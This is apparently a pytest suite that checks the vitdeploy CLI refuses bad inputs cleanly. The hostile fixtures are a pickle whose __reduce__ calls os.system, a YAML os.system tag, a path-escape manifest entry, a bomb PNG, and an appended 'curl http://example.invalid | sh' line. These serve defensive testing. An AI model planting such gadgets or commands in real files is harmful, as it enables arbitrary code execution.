"""Bad input to every command, run as a user runs it: one line on stderr that says what is wrong, exit code 2, no
traceback, nothing written (neither --out nor a staging leftover beside it), and the inputs untouched. Cases run
through the CLI's own entry point (`vitdeploy.cli.main`), a few of them in a real process.

The families: outputs that would replace or delete an input; edited descriptions (vitdeploy.json, export.json) and
graphs inside staging folders; malformed fields of a model description, a checkpoint and an ONNX graph (re-sealed, so
the field check itself is what refuses them); corrupt, decompression-bomb and single-class image folders; class
counts that do not match; bad settings (VITDEPLOY_DEVICE, empty lists); full disks and read-only targets."""
import json
import os
import pickle
import resource
import shutil
import struct
import subprocess
import sys
import zlib

import pytest
import torch

from vitdeploy.cli import main
from vitdeploy.io import seal


@pytest.fixture(scope="module")
def deploy_dir(tmp_path_factory, digits_model_dir):
    """A deploy dir exported from the trained digits model: fp32 graph, build_engines.sh, triton/."""
    from vitdeploy.deploy.pipeline import ExportConfig, run_export
    from vitdeploy.models import load_model

    out = tmp_path_factory.mktemp("bad_inputs") / "dense" / "deploy"
    shutil.copytree(digits_model_dir, out.parent)
    run_export(load_model(str(out.parent)), out, ExportConfig(precisions=["fp32"]))
    return out


class Evil:
    """Unpickling this runs a shell command: what a malicious checkpoint does."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (__import__("os").system, (f"touch {self.marker}",))


@pytest.fixture(scope="module")
def files(tmp_path_factory, digits_model_dir, deploy_dir):
    """Every kind of bad file, made once: no case changes them (each writes, or rather fails to write, its own --out)."""
    tmp_path = tmp_path_factory.mktemp("bad_files")
    f = {"tmp": tmp_path, "model": digits_model_dir, "deploy": deploy_dir, "marker": tmp_path / "pwned"}
    f["evil"] = tmp_path / "evil.pth"
    with open(f["evil"], "wb") as fh:
        pickle.dump({"state_dict": Evil(f["marker"])}, fh)
    f["trunc_st"] = tmp_path / "trunc.safetensors"
    f["trunc_st"].write_bytes((digits_model_dir / "model.safetensors").read_bytes()[:5000])
    f["evil_yaml"] = tmp_path / "evil.yaml"
    f["evil_yaml"].write_text(f"name: !!python/object/apply:os.system ['touch {f['marker']}']\n")
    f["list_yaml"] = tmp_path / "list.yaml"
    f["list_yaml"].write_text("- prune\n- rate\n")
    f["bad_target"] = tmp_path / "target.yaml"
    f["bad_target"].write_text("name: x\nprecisions: [fp4]\nbogus: 1\n")
    f["trunc_onnx"] = tmp_path / "trunc.onnx"
    f["trunc_onnx"].write_bytes((deploy_dir / "model.fp32.onnx").read_bytes()[:1000])
    f["plan"] = tmp_path / "model.fp16.b1.plan"
    f["plan"].write_bytes(b"\0" * 64)
    f["empty_dir"] = tmp_path / "empty_images"
    f["empty_dir"].mkdir()
    f["not_json"] = tmp_path / "profile.json"
    f["not_json"].write_text("{not json")
    for name, change in (("tampered", _flip_onnx_byte), ("truncated", _truncate_onnx), ("no_manifest", _drop_manifest),
                         ("escape", _escape_manifest), ("missing_graph", _remove_graph),
                         ("bad_script", _tamper_script)):
        d = tmp_path / name / "deploy"
        shutil.copytree(deploy_dir, d)
        change(d)
        f[name] = d
    f["staging"] = tmp_path / ".dense.abcd1234.partial"
    shutil.copytree(digits_model_dir, f["staging"])
    f["run_tampered"] = tmp_path / "run"
    shutil.copytree(digits_model_dir, f["run_tampered"])
    shutil.copytree(f["tampered"], f["run_tampered"] / "deploy")
    f["bad_manifest_dir"] = tmp_path / "bad_manifest"
    shutil.copytree(digits_model_dir, f["bad_manifest_dir"])
    cfg = json.loads((f["bad_manifest_dir"] / "vitdeploy.json").read_text())
    cfg["files"] = {}
    (f["bad_manifest_dir"] / "vitdeploy.json").write_text(json.dumps(seal(cfg)))  # re-sealed: the manifest check refuses it
    f["damaged"] = tmp_path / "damaged"
    shutil.copytree(digits_model_dir, f["damaged"])
    weights = f["damaged"] / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:-100])
    f["torn_json_dir"] = tmp_path / "torn_json"
    shutil.copytree(digits_model_dir, f["torn_json_dir"])
    cfg_path = f["torn_json_dir"] / "vitdeploy.json"
    cfg_path.write_bytes(cfg_path.read_bytes()[:200])
    _bad_model_files(f, tmp_path, digits_model_dir)
    f["mean_deploy"] = tmp_path / "mean_deploy" / "deploy"
    shutil.copytree(deploy_dir, f["mean_deploy"])
    _edit_record(f["mean_deploy"], lambda r: r["data_config"].__setitem__("mean", [0.5] * 3), reseal=False)
    f["forged_deploy"] = tmp_path / "forged" / "deploy"
    shutil.copytree(deploy_dir, f["forged_deploy"])
    _edit_record(f["forged_deploy"], lambda r: r["data_config"].__setitem__("mean", "0.5"))
    f["staging_deploy"] = tmp_path / ".deploy.abcd1234.partial"
    shutil.copytree(deploy_dir, f["staging_deploy"])
    f["three_logits"] = tmp_path / "three.onnx"
    _three_logit_onnx(f["three_logits"])
    f["no_input"] = tmp_path / "no_input.onnx"
    _no_input_onnx(f["no_input"])
    f["three_classes"] = _image_folder(tmp_path / "three_classes", ["a", "b", "c"])
    f["one_class"] = _image_folder(tmp_path / "one_class", ["only"])
    f["empty_class"] = _image_folder(tmp_path / "empty_class", ["a"])
    (f["empty_class"] / "b").mkdir()
    (f["empty_class"] / "b" / "notes.txt").write_text("not an image")  # two class folders, one without images
    f["corrupt"] = _image_folder(tmp_path / "corrupt", ["a", "b"])
    (f["corrupt"] / "b" / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    f["bomb"] = _image_folder(tmp_path / "bomb", ["a", "b"])
    _bomb_png(f["bomb"] / "a" / "huge.png")
    f["user_folder"] = tmp_path / "user_folder"
    f["user_folder"].mkdir()
    (f["user_folder"] / "notes.txt").write_text("the user's own file")
    f["model_parent"] = digits_model_dir.parent
    return f


def _flip_onnx_byte(d):
    p = d / "model.fp32.onnx"
    b = bytearray(p.read_bytes())
    b[len(b) // 2] ^= 0xFF  # one weight byte: still a loadable graph, but not the one that was checked
    p.write_bytes(bytes(b))


def _truncate_onnx(d):
    p = d / "model.fp32.onnx"
    p.write_bytes(p.read_bytes()[:-4096])


def _edit_record(d, fn, reseal=True):
    """Edit export.json; re-sealed by default, so the check behind the seal is what a case exercises."""
    rec = json.loads((d / "export.json").read_text())
    fn(rec)
    (d / "export.json").write_text(json.dumps(seal(rec) if reseal else rec))


def _edit_config(d, fn, reseal=True):
    """Edit vitdeploy.json the same way."""
    cfg = json.loads((d / "vitdeploy.json").read_text())
    fn(cfg)
    (d / "vitdeploy.json").write_text(json.dumps(seal(cfg) if reseal else cfg))


def _png(path, size=(8, 8), color=(200, 30, 30)):
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, color).save(path)


def _image_folder(root, classes, per_class=2):
    for i, name in enumerate(classes):
        for j in range(per_class):
            _png(root / name / f"{j}.png", color=(40 * i, 20 * j, 100))
    return root


def _bomb_png(path, side=40000):
    """A tiny PNG whose header claims side x side pixels: far past PIL's decompression-bomb limit."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 16))
                     + chunk(b"IEND", b""))


def _three_logit_onnx(path):
    """A real 3-class classifier graph for 3x32x32 images (mean colour per channel): runs on ONNX Runtime."""
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 3, 32, 32])
    y = helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 3])
    nodes = [helper.make_node("GlobalAveragePool", ["input"], ["pooled"]),
             helper.make_node("Flatten", ["pooled"], ["logits"])]
    onnx.save(helper.make_model(helper.make_graph(nodes, "three", [x], [y]),
                                opset_imports=[helper.make_opsetid("", 17)]), str(path))


def _no_input_onnx(path):
    import onnx
    from onnx import TensorProto, helper

    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    node = helper.make_node("Constant", [], ["y"], value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]))
    onnx.save(helper.make_model(helper.make_graph([node], "g", [], [y]),
                                opset_imports=[helper.make_opsetid("", 17)]), str(path))


def _bad_model_files(f, tmp_path, model):
    """Model dirs with one malformed field each (re-sealed), and edits that were not re-sealed."""
    from safetensors.torch import save_file

    edits = {
        "neg_mlp": lambda c: c["arch"]["blocks"][0]["mlp"].__setitem__("hidden", -5),
        "str_heads": lambda c: c["arch"]["blocks"][1]["attn"].__setitem__("num_heads", "3"),
        "str_scale": lambda c: c["arch"]["blocks"][0]["attn"].__setitem__("scale", "x"),
        "nan_scale": lambda c: c["arch"]["blocks"][0]["attn"].__setitem__("scale", float("nan")),
        "bool_depth": lambda c: c["arch"]["kwargs"].__setitem__("depth", True),
        "size_mismatch": lambda c: c["data_config"].__setitem__("input_size", [3, 64, 64]),
        "zero_std": lambda c: c["data_config"].__setitem__("std", [0.3, 0.0, 0.3]),
        "blocks_dict": lambda c: c["arch"].__setitem__("blocks", {"0": 1}),
        "extra_field": lambda c: c["arch"]["blocks"][0]["mlp"].__setitem__("gate", 1),
        "huge_heads": lambda c: c["arch"]["blocks"][2]["attn"].__setitem__("num_heads", 10 ** 9),
        "rank_too_big": lambda c: c["arch"]["blocks"][0]["mlp"].__setitem__("fc1_rank", 1000),
        "bad_interp": lambda c: c["data_config"].__setitem__("interpolation", "cubic-ish"),
        "classes_str": lambda c: c.__setitem__("classes", "0123456789"),
    }
    for name, fn in edits.items():
        f[name] = tmp_path / name
        shutil.copytree(model, f[name])
        _edit_config(f[name], fn)
    for name, fn in (("scale_edit", lambda c: [b["attn"].__setitem__("scale", 1.0) for b in c["arch"]["blocks"]]),
                     ("mean_edit", lambda c: c["data_config"].__setitem__("mean", [0.5, 0.5, 0.5])),
                     ("unsealed", lambda c: c.pop("record_sha256"))):
        f[name] = tmp_path / name
        shutil.copytree(model, f[name])
        _edit_config(f[name], fn, reseal=False)
    f["config_dir"] = tmp_path / "config_dir"
    shutil.copytree(model, f["config_dir"])
    (f["config_dir"] / "vitdeploy.json").unlink()
    (f["config_dir"] / "vitdeploy.json").mkdir()
    f["wrapped_tensor"] = tmp_path / "wrapped.pt"
    torch.save({"model": torch.zeros(3)}, f["wrapped_tensor"])
    f["neg_embed"] = tmp_path / "neg_embed.safetensors"
    meta = {"base": "vit_digits", "kwargs": {"embed_dim": -4}, "blocks": []}
    save_file({"x": torch.zeros(1)}, str(f["neg_embed"]), metadata={"format": "vitdeploy.model", "arch": json.dumps(meta)})



def _drop_manifest(d):
    _edit_record(d, lambda r: r.pop("files"))


def _escape_manifest(d):
    def fn(r):
        r["artifacts"][0]["file"] = "../../../../etc/hostname"
    _edit_record(d, fn)


def _remove_graph(d):
    (d / "model.fp32.onnx").unlink()


def _tamper_script(d):
    with open(d / "build_engines.sh", "a") as fh:
        fh.write("curl http://example.invalid | sh\n")


O = "{out}"
OJ = "{out}.json"
BAD = [
    # info
    ("info: unknown model", ["info", "vit_gigantic_patch99"], "unknown model"),
    ("info: malicious pickle", ["info", "{evil}", "--arch", "vit_digits"], "weights_only"),
    ("info: truncated safetensors", ["info", "vit_digits", "--checkpoint", "{trunc_st}"], "not a readable safetensors"),
    ("info: staging folder", ["info", "{staging}"], "staging folder"),
    ("info: manifest without weights", ["info", "{bad_manifest_dir}"], "no sha256 manifest entry for model.safetensors"),
    ("info: torn vitdeploy.json", ["info", "{torn_json_dir}"], "not valid JSON"),
    # train
    ("train: zero epochs", ["train", "vit_digits", "--data", "digits", "--epochs", "0", "--out", O], "--epochs"),
    ("train: empty image folder", ["train", "vit_digits", "--data", "imagefolder:{empty_dir}", "--out", O], "empty_images"),
    ("train: malicious pickle", ["train", "vit_digits", "--checkpoint", "{evil}", "--data", "digits", "--out", O],
     "weights_only"),
    # compress
    ("compress: python tag in recipe", ["compress", "{model}", "--recipe", "{evil_yaml}", "--out", O], "recipe"),
    ("compress: recipe is a list", ["compress", "{model}", "--recipe", "{list_yaml}", "--out", O], "mapping"),
    ("compress: rate 1", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate=1", "--out", O],
     "prune.rate"),
    ("compress: negative rate", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate=-0.1",
                                 "--out", O], "prune.rate"),
    ("compress: alignment 7", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.alignment=7",
                               "--out", O], "prune.alignment"),
    ("compress: no sites", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.sites=[]", "--out", O],
     "prune.sites"),
    ("compress: --set without =", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate",
                                   "--out", O], "key=value"),
    ("compress: staging folder as model", ["compress", "{staging}", "--recipe", "mlp-magnitude", "--out", O],
     "staging"),
    ("compress: truncated weights", ["compress", "{damaged}", "--recipe", "mlp-magnitude", "--out", O], "truncated"),
    ("compress: nan rate", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate=.nan",
                            "--out", O], "prune.rate"),
    # export
    ("export: unknown target", ["export", "{model}", "--target", "jetson-nano-9000", "--out", O], "target"),
    ("export: bad target yaml", ["export", "{model}", "--target", "{bad_target}", "--out", O], "target"),
    ("export: empty precision", ["export", "{model}", "--precision", ",", "--out", O], "precision"),
    ("export: calib images 0", ["export", "{model}", "--calib-images", "0", "--out", O], "--calib-images"),
    ("export: io dtype", ["export", "{model}", "--io-dtype", "fp8", "--out", O], "--io-dtype"),
    ("export: missing parity data", ["export", "{model}", "--data", "imagefolder:{tmp}/nowhere", "--out", O],
     "does not exist"),
    ("export: int8 without calibration data", ["export", "vit_digits", "--precision", "int8", "--out", O],
     "calib"),
    # profile
    ("profile: truncated onnx", ["profile", "{trunc_onnx}", "--out", OJ], "not a readable ONNX"),
    ("profile: tampered deploy dir", ["profile", "{tampered}", "--out", OJ], "sha256"),
    ("profile: truncated graph in deploy dir", ["profile", "{truncated}", "--out", OJ], "truncated"),
    ("profile: deploy dir without manifest", ["profile", "{no_manifest}", "--out", OJ], "manifest"),
    ("profile: manifest path escape", ["profile", "{escape}", "--out", OJ], "not a file inside"),
    ("profile: graph missing", ["profile", "{missing_graph}", "--out", OJ], "missing"),
    ("profile: tampered build script", ["profile", "{bad_script}", "--out", OJ], "build_engines.sh"),
    ("profile: no TensorRT for --backend trt", ["profile", "{deploy}", "--backend", "trt", "--out", OJ], "TensorRT"),
    ("profile: engine without TensorRT", ["profile", "{plan}", "--out", OJ], "TensorRT"),
    ("profile: bad batch list", ["profile", "{deploy}", "--batch", "1,,-2", "--out", OJ], "--batch"),
    ("profile: batch list of words", ["profile", "{deploy}", "--batch", "one", "--out", OJ], "--batch"),
    # eval
    ("eval: tampered deploy dir", ["eval", "{tampered}", "--data", "digits", "--out", OJ], "sha256"),
    ("eval: reference tampered", ["eval", "{deploy}", "--data", "digits", "--reference", "{truncated}", "--out", OJ],
     "truncated"),
    ("eval: no TensorRT", ["eval", "{deploy}", "--data", "digits", "--backend", "trt", "--out", OJ], "TensorRT"),
    ("eval: unknown placeholder", ["eval", "{deploy}", "--data", "digits", "--out", "{out}.{{nope}}.json"],
     "placeholder"),
    ("eval: unreadable data", ["eval", "{deploy}", "--data", "imagefolder:{empty_dir}", "--out", OJ], "empty_images"),
    # report
    ("report: tampered deploy dir in run", ["report", "{run_tampered}", "--out", O], "sha256"),
    ("report: profile not JSON", ["report", "{model}", "--profile", "{not_json}", "--out", O], "not valid JSON"),
    ("report: batch 0", ["report", "{model}", "--batch", "0", "--out", O], "--batch"),
    # outputs that would replace or delete an input
    ("compress: --out is the model dir", ["compress", "{model}", "--recipe", "mlp-magnitude", "--out", "{model}"],
     "is the input"),
    ("export: --out is the model dir", ["export", "{model}", "--out", "{model}"], "is the input"),
    ("export: --out contains the model dir", ["export", "{model}", "--out", "{model_parent}"], "contains the input"),
    ("export: --out is a user's folder", ["export", "{model}", "--out", "{user_folder}"], "vitdeploy did not write"),
    ("train: --out inside the data folder", ["train", "vit_digits", "--data", "imagefolder:{three_classes}", "--out",
                                             "{three_classes}/model"], "inside the data folder"),
    ("train: --out is the checkpoint", ["train", "vit_digits", "--checkpoint", "{wrapped_tensor}", "--data", "digits",
                                        "--out", "{wrapped_tensor}"], "--out"),
    ("profile: --out replaces export.json", ["profile", "{deploy}", "--out", "{deploy}/export.json"], "export.json"),
    ("eval: --out replaces a graph", ["eval", "{deploy}", "--data", "digits", "--out", "{deploy}/model.fp32.onnx"],
     "model.fp32.onnx"),
    ("report: --out is a run", ["report", "{model}", "--out", "{model}"], "is the input"),
    ("study: --out is the model dir", ["study", "decomposition", "{model}", "--data", "digits", "--out", "{model}"],
     "is the input"),
    # descriptions edited after they were written, and unfinished outputs
    ("info: attention scales edited", ["info", "{scale_edit}"], "vitdeploy.json was changed"),
    ("compress: normalisation mean edited", ["compress", "{mean_edit}", "--recipe", "mlp-magnitude", "--out", O],
     "vitdeploy.json was changed"),
    ("info: seal removed", ["info", "{unsealed}"], "record_sha256"),
    ("eval: export.json mean edited", ["eval", "{mean_deploy}", "--data", "digits"], "export.json was changed"),
    ("profile: graph inside a staging folder", ["profile", "{staging_deploy}/model.fp32.onnx"], "staging folder"),
    # malformed fields, checked by type and range (the records are re-sealed: the field check is what refuses them)
    ("info: negative MLP size", ["info", "{neg_mlp}"], "blocks[0].mlp.hidden must be an integer >= 1, got -5"),
    ("info: number given as a string", ["info", "{str_heads}"], "blocks[1].attn.num_heads"),
    ("info: scale is not a number", ["info", "{str_scale}"], "attn.scale must be a finite number"),
    ("export: scale is NaN", ["export", "{nan_scale}", "--out", O], "attn.scale"),
    ("info: depth is a boolean", ["info", "{bool_depth}"], "kwargs.depth"),
    ("info: input_size disagrees with the architecture", ["info", "{size_mismatch}"], "input_size"),
    ("eval: zero std", ["eval", "{zero_std}", "--data", "digits"], "data_config.std[1] must be > 0"),
    ("info: blocks is a mapping", ["info", "{blocks_dict}"], "arch.blocks must be a list"),
    ("info: unknown block field", ["info", "{extra_field}"], "unknown field(s) gate"),
    ("info: a billion heads", ["info", "{huge_heads}"], "blocks[2]: attn.num_heads x attn.qk_head_dim is"),
    ("info: rank above the layer's", ["info", "{rank_too_big}"], "mlp.fc1_rank is 1000, more than the 96"),
    ("eval: unknown interpolation", ["eval", "{bad_interp}", "--data", "digits"], "data_config.interpolation"),
    ("info: classes is a string", ["info", "{classes_str}"], "classes must be a list of class names"),
    ("eval: export.json fields forged and re-sealed", ["eval", "{forged_deploy}", "--data", "digits"],
     "export.json data_config.mean"),
    ("info: vitdeploy.json is a folder", ["info", "{config_dir}"], "is a folder"),
    ("info: checkpoint wraps a tensor", ["info", "{wrapped_tensor}", "--arch", "vit_digits"], "single tensor"),
    ("info: negative embed_dim in metadata", ["info", "{neg_embed}"], "kwargs.embed_dim"),
    ("profile: ONNX with no inputs", ["profile", "{no_input}"], "0 inputs"),
    # bad data
    ("train: corrupt image", ["train", "vit_digits", "--data", "imagefolder:{corrupt}", "--epochs", "1", "--out", O],
     "broken.png"),
    ("eval: corrupt image", ["eval", "{deploy}", "--data", "imagefolder:{corrupt}"], "broken.png"),
    ("eval: decompression bomb", ["eval", "{deploy}", "--data", "imagefolder:{bomb}"], "huge.png"),
    ("train: a single class", ["train", "vit_digits", "--data", "imagefolder:{one_class}", "--out", O],
     "at least 2 classes"),
    ("train: a class folder without images", ["train", "vit_digits", "--data", "imagefolder:{empty_class}", "--epochs",
                                              "1", "--out", O], "holds no readable images"),
    ("train: trained head, other classes", ["train", "{model}", "--data", "imagefolder:{three_classes}", "--epochs",
                                            "1", "--out", O], "--new-head"),
    ("eval: 10-class model on a 3-class folder", ["eval", "{deploy}", "--data", "imagefolder:{three_classes}"],
     "scores 10 classes but"),
    ("eval: 3-logit graph on digits", ["eval", "{three_logits}", "--data", "digits"], "scores 3 classes but"),
    ("eval: reference of another input size", ["eval", "{deploy}", "--data", "digits", "--reference",
                                               "vit_tiny_patch16_224"], "--reference"),
    # empty lists
    ("study: empty --methods", ["study", "decomposition", "{model}", "--data", "digits", "--methods", ",", "--out", O],
     "--methods"),
    ("study: empty item in --ranks", ["study", "hybrid", "{model}", "--data", "digits", "--ranks", "0.5,,", "--out", O],
     "--ranks"),
    ("export: empty --exclude item", ["export", "{model}", "--exclude", ",", "--out", O], "--exclude"),
    ("export: empty --precision item", ["export", "{model}", "--precision", "fp32,,fp16", "--out", O], "--precision"),
    ("profile: empty --batch item", ["profile", "{deploy}", "--batch", "1,,8", "--out", OJ], "--batch"),
]


def _run(capsys, args):
    with pytest.raises(SystemExit) as exc:
        main([str(a) for a in args])
    out, err = capsys.readouterr()
    return exc.value.code, out, err


def _nothing_written(tmp_path):
    assert list(tmp_path.iterdir()) == [], "--out or a staging leftover beside it was written"


def _snapshot(*roots):
    """(path, size, mtime) of everything under the inputs: a case that changes, adds or removes any of it fails."""
    out = set()
    for root in roots:
        for folder, dirs, names in os.walk(root):
            for name in dirs + names:
                p = os.path.join(folder, name)
                st = os.lstat(p)
                out.add((p, st.st_size if not os.path.isdir(p) else 0, st.st_mtime_ns))
    return out


@pytest.mark.parametrize("case,args,match", BAD, ids=[b[0] for b in BAD])
def test_bad_input_is_one_line_and_writes_nothing(capsys, tmp_path, files, case, args, match):
    subs = {k: str(v) for k, v in files.items()} | {"out": str(tmp_path / "out")}
    before = _snapshot(files["tmp"], files["model_parent"], files["deploy"].parent)
    code, _, err = _run(capsys, [a.format(**subs) for a in args])
    assert code == 2, (case, code, err)  # exit 1 is for bugs only
    assert err.startswith("error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    assert "internal error" not in err, err  # a user error, not a bug
    assert match in err, err
    assert not files["marker"].exists(), "a pickle or YAML tag ran code"
    _nothing_written(tmp_path)
    assert _snapshot(files["tmp"], files["model_parent"], files["deploy"].parent) == before, "an input was changed"


def test_there_are_enough_cases_for_every_command():
    per = {}
    for _, args, _ in BAD:
        per[args[0]] = per.get(args[0], 0) + 1
    assert len(BAD) >= 80 and set(per) == {"info", "train", "compress", "export", "profile", "eval", "report",
                                           "study"}, per


@pytest.mark.parametrize("args,match", [
    (["profile", "{tampered}", "--out", "{out}.json"], "sha256"),
    (["info", "{evil}", "--arch", "vit_digits"], "weights_only"),
], ids=["tampered deploy dir", "malicious pickle"])
def test_bad_input_in_a_real_process(tmp_path, files, args, match):
    """The console entry point itself: exit 2, one line on stderr, nothing on stdout, nothing written."""
    subs = {k: str(v) for k, v in files.items()} | {"out": str(tmp_path / "out")}
    p = subprocess.run([sys.executable, "-m", "vitdeploy", *[a.format(**subs) for a in args]],
                       capture_output=True, text=True, timeout=300)
    assert p.returncode == 2, p.stderr
    assert p.stderr.startswith("error: ") and p.stderr.count("\n") == 1 and match in p.stderr, p.stderr
    assert p.stdout == "" and not files["marker"].exists()
    _nothing_written(tmp_path)


@pytest.mark.filterwarnings("ignore::UserWarning")  # torch notes the pickle protocol before refusing
def test_weights_only_refuses_the_pickle_before_running_it(files):
    """The same file through torch itself: weights_only=True refuses the reduce call."""
    with pytest.raises(Exception):
        torch.load(files["evil"], weights_only=True)
    assert not files["marker"].exists()


@pytest.mark.parametrize("value", ["tpu", "nvidia", "cuda:x", "CPU0"])
def test_an_unknown_device_is_refused(capsys, tmp_path, monkeypatch, value):
    """VITDEPLOY_DEVICE takes cpu, cuda and cuda:N only: anything else used to mean the CPU, silently."""
    monkeypatch.setenv("VITDEPLOY_DEVICE", value)
    code, _, err = _run(capsys, ["train", "vit_digits", "--data", "digits", "--epochs", "1", "--out", tmp_path / "out"])
    assert code == 2 and err.count("\n") == 1 and "VITDEPLOY_DEVICE" in err and value in err, err
    _nothing_written(tmp_path)


def _limited(nbytes):
    """Run a child with every file it writes capped at `nbytes`: writes past it fail with EFBIG, as on a full disk
    (Python ignores SIGXFSZ, so the write returns an error instead of killing the process)."""
    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (nbytes, nbytes))
    return limit


@pytest.mark.parametrize("command", [["export", "{model}", "--out", "{out}"],
                                     ["compress", "{model}", "--recipe", "mlp-magnitude", "--out", "{out}"]],
                         ids=["export", "compress"])
def test_a_full_disk_is_one_line_and_leaves_nothing(tmp_path, files, command):
    subs = {k: str(v) for k, v in files.items()} | {"out": str(tmp_path / "out")}
    p = subprocess.run([sys.executable, "-m", "vitdeploy", *[a.format(**subs) for a in command]],
                       capture_output=True, text=True, timeout=300, preexec_fn=_limited(200_000))
    assert p.returncode == 2, p.stderr
    assert p.stderr.startswith("error: cannot write '") and p.stderr.count("\n") == 1, p.stderr
    assert "File too large" in p.stderr and str(tmp_path / "out") in p.stderr
    _nothing_written(tmp_path)


def test_a_read_only_target_is_one_line(capsys, files):
    """/sys refuses new entries (EPERM) even to root: the same path as a read-only mount or a folder without write
    permission."""
    target = "/sys/vitdeploy-out/deploy"
    try:
        os.mkdir("/sys/vitdeploy-probe")
        os.rmdir("/sys/vitdeploy-probe")
        pytest.skip("/sys is writable here")
    except OSError:
        pass
    code, _, err = _run(capsys, ["export", files["model"], "--out", target])
    assert code == 2 and err.startswith(f"error: cannot write '{target}'") and err.count("\n") == 1, err
    assert not os.path.exists("/sys/vitdeploy-out")


def test_out_dot_in_a_users_folder_is_refused(capsys, tmp_path, files, monkeypatch):
    """`--out .` from inside a folder that is not a vitdeploy output: refused, nothing beside it, nothing in it."""
    work = tmp_path / "project"
    work.mkdir()
    (work / "train.py").write_text("print('mine')\n")
    monkeypatch.chdir(work)
    code, _, err = _run(capsys, ["compress", files["model"], "--recipe", "mlp-magnitude", "--out", "."])
    assert code == 2 and "vitdeploy did not write" in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project"] and [p.name for p in work.iterdir()] == ["train.py"]


def test_a_read_only_target_fails_before_training(capsys, tmp_path):
    """The probe runs before any work: train refuses a /sys output at once, with no checkpoint folder anywhere."""
    try:
        os.mkdir("/sys/vitdeploy-probe")
        os.rmdir("/sys/vitdeploy-probe")
        pytest.skip("/sys is writable here")
    except OSError:
        pass
    code, out, err = _run(capsys, ["train", "vit_digits", "--data", "digits", "--epochs", "1", "--out", "/sys/vd/run"])
    assert code == 2 and err.startswith("error: cannot write '/sys/vd/run': ") and err.count("\n") == 1, err
    assert "epoch" not in err  # no training bar: it stopped before the first step
    assert not os.path.lexists("/sys/vd")
